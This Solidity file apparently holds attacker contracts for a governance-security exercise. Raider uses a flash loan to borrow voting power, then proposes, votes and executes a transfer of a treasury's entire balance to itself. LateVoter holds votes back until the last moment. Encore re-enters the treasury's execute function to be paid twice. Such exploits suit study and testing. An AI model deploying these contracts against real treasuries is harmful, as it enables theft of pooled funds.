// SPDX-License-Identifier: MIT
pragma solidity 0.8.37;

import {ERC20Votes} from "@openzeppelin/contracts/token/ERC20/extensions/ERC20Votes.sol";

interface IFlashLender {
    function flashLoan(uint256 amount) external;
}

interface ITreasury {
    function propose(address payable receiver, uint256 amount) external returns (uint256 id);
    function vote(uint256 id) external;
    function execute(uint256 id) external;
}

// #region attack
contract Raider {
    IFlashLender private immutable LENDER;
    ERC20Votes private immutable TOKEN;
    ITreasury private immutable TREASURY;

    constructor(IFlashLender lender, ERC20Votes token, ITreasury treasury) {
        (LENDER, TOKEN, TREASURY) = (lender, token, treasury);
    }

    function raid(uint256 amount) external {
        LENDER.flashLoan(amount);
    }

    function onLoan(uint256 amount) external {
        TOKEN.delegate(address(this)); // votes count from now on
        uint256 id = TREASURY.propose(payable(address(this)), address(TREASURY).balance);
        TREASURY.vote(id);
        TREASURY.execute(id);
        TOKEN.transfer(address(LENDER), amount);
    }
    // #endregion attack

    function join() external {
        TOKEN.delegate(address(this));
    }

    receive() external payable {}
}

// #region second
/// Has real votes and holds them back until it is too late to react.
contract LateVoter {
    constructor(ERC20Votes token) {
        token.delegate(address(this));
    }

    function strike(ITreasury treasury, uint256 id) external {
        treasury.vote(id);
        treasury.execute(id);
    }
}

/// Asks for the same payment again while it is being paid.
contract Encore {
    receive() external payable {
        try ITreasury(msg.sender).execute(0) {} catch {}
    }
}
// #endregion second
